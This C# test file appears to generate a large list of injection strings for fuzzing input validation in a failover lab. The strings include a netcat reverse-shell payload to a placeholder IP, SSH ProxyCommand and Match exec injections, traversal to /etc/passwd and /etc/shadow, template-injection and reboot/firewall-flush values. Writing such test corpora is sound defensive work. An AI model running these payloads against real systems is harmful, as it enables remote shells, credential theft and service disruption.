namespace FailoverLab.Scenarios.Tests;

/// <summary>Texts made to become something else where they are used: an option, a command, a token, another line, another file.</summary>
internal static class InjectionStrings
{
    private const string Mark = "PWNED";

    /// <summary>What each class of them aims at, filled with every payload; more than 500, all different.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Make().Distinct()];

    private static IEnumerable<string> Make()
    {
        string[] payloads = [$"touch {Mark}", $"id>{Mark}", $"/bin/{Mark}", $"reboot#{Mark}", $"nc -e sh 192.0.2.1 1 {Mark}"];
        string[] shells =
        [
            ";{0}", ";{0};", "a;{0}", "&{0}", "&&{0}", "a&&{0}", "|{0}", "||{0}", "a|{0}", "$({0})", "a$({0})b", "`{0}`", "a`{0}`", "${{IFS}}{0}", "$IFS{0}", "<({0})", ">{0}", "<{0}", "';{0};'", "\";{0};\"",
            "'$({0})'", "\"$({0})\"", "\\;{0}", "a\\\n{0}", "\n{0}", "a\n{0}\n", "\r\n{0}", "\r{0}", "a\u0085{0}", "a\u2028{0}", "a\u2029{0}", "a\v{0}", "a\f{0}", "{{{0}}}", "({0})", "!{0}", "a #{0}", "~{0}", "*{0}", "a b {0}", "\t{0}", "a\0{0}", "\u001B]0;{0}\u0007",
        ];
        foreach (var shell in shells)
        {
            foreach (var payload in payloads)
            {
                yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, shell, payload);
            }
        }

        string[] options =
        [
            "-oProxyCommand={0}", "-o ProxyCommand={0}", "--oProxyCommand={0}", "-oLocalCommand={0}", "-oPermitLocalCommand=yes {0}", "-oKnownHostsCommand={0}", "-F{0}", "-F /dev/stdin {0}", "-E{0}", "-i{0}", "-J{0}", "-R80:{0}", "-L80:{0}", "-D{0}",
            "-w0:{0}", "-S{0}", "-e{0}", "-W{0}", "--rcfile={0}", "--help {0}", "-c{0}", "- {0}", "--{0}", "-{0}", "\u2010oProxyCommand={0}", "\u2212oProxyCommand={0}", "a -oProxyCommand={0}", "a\n  ProxyCommand {0}", "a\nHost *\n  ProxyCommand {0}", "a\nMatch exec \"{0}\"", "a\nInclude {0}",
        ];
        foreach (var option in options)
        {
            foreach (var payload in payloads)
            {
                yield return string.Format(System.Globalization.CultureInfo.InvariantCulture, option, payload);
            }
        }

        foreach (var token in "%hnprulLCdikKjTtHfIUVF")
        {
            yield return $"%{token}";
            yield return $"a%{token}{Mark}";
        }

        string[] words =
        [
            "${HOME}", "${PATH}", "a${HOME}", "$HOME", "~root", "~root/.ssh", "../../etc/passwd", "../" + Mark, "a/../../b", "/etc/shadow", "./-x", ".", "..", "...", "*", "?", "[a-z]", "a*", "{a,b}", "{{ 7*7 }}", "{{lookup('pipe','id')}}", "{% x %}", "%(x)s", "#{x}", "<!--",
            "dev eth0", "root netem loss 100%", "eth0 root", "lo; drop", "add table inet x", "flush ruleset", "accept", "eth0@if2", "eth0:1", "a.b.c:d", "a:b@c", "user@host", "user@", "@host", "root@pam!x=y", "a,b", "a,-oProxyCommand=x", "[::1", "::1]", "[::1]:99999", "0x7f.1", "127.1", "1e309",
            "-1", "99999999999999999999", "NaN", "Infinity", "0b1", "010", "1_000", "١٢٣", "yes", "null", "~", "!!python/object:x", "!ruby/x", "*alias", "&anchor", "<<", "? x", "|", ">", "'", "\"", "\\", "`", "a'b", "a\"b", "a\\b", "a\\", "$'\\n'",
            "\u202Eabc", "\u2066abc\u2069", "\u200Babc", "a\u200Db", "\uFEFFabc", "a\u00A0b", "аdmin", "ａｂｃ", "e\u0301", "\uD83D\uDE00", "\u0000", "\u0001", "\u007F", "\u009B31m", "\u001B[31m", "a\u001Bb", "ﬀ", "ı", "İ", "ß", "\u0130\u0131",
            "CON", "NUL", "COM1", "con.", "a ", " a", "a\t", "\ta", "a\n", "\na", "--", "-", "", " ", "\t", "\n",
            "https://user:pw@192.0.2.1", "https://192.0.2.1/../x", "https://192.0.2.1:8006/#@evil", "https://192.0.2.1\\@evil", "http://192.0.2.1", "file:///etc/passwd", "javascript:alert(1)", "env:", "env:A B", "env:$(id)", "env:-x", "file:", "file:\n", "file:-x", "file:%h", "file:$(id)", "command:id",
        ];
        foreach (var word in words)
        {
            yield return word;
        }

        foreach (var length in new[] { 64, 254, 513, 4097, 40_000 })
        {
            yield return new string('a', length);
            yield return "-" + new string('a', length);
            yield return string.Concat(Enumerable.Repeat("$(x)", length / 4));
        }
    }
}
